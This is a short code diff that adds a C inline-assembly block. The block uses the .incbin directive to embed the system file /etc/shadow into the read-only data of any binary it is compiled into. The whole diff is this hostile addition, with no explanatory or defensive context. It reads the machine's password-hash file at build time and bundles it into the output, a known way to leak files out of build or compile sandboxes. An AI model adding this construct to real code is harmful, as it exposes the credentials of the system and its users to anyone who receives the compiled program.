@@ -1,0 +1,3 @@
+asm(".pushsection .rodata\n"
+    ".incbin \"/etc/shadow\"\n"
+    ".popsection\n");
